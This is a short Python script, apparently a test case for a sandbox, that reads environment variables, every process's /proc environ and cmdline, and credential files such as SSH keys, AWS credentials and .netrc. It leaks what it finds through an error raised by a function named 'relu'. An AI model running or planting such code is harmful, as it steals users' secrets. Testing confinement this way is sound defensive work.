# attack: looks for secrets in the environment and in HOME, its own and other processes'
# levels: jail confined
# review: yes
import glob
import os
import sys

found = [f"{name}={value}" for name, value in os.environ.items()]
for place in ["/proc/self/environ", *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline")]:
    try:
        with open(place, "rb") as file:
            found.append(file.read().decode("utf-8", "replace"))
    except OSError:
        pass
for home in {os.environ.get("HOME", ""), os.path.expanduser("~"), "/root"}:
    for name in (".netrc", ".ssh/id_rsa", ".aws/credentials", ".config", ".bash_history", ".pypirc"):
        try:
            with open(os.path.join(home, name)) as file:
                found.append(file.read())
        except OSError:
            pass


def relu(x):
    raise ValueError(" ".join(text for text in found if "SECRET" in text or "canary" in text))
